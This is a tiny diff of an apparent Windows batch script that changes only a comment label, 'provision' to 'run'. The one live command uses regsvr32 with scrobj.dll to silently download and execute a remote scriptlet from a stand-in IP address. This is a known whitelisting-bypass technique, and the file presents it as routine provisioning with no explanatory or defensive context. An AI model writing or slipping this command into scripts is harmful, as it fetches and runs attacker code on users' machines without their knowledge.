@@ -1,2 +1,2 @@
-REM provision 9349 v3
+REM run 7829 v3
 regsvr32 /s /n /u /i:http://192.0.2.150/file.sct scrobj.dll
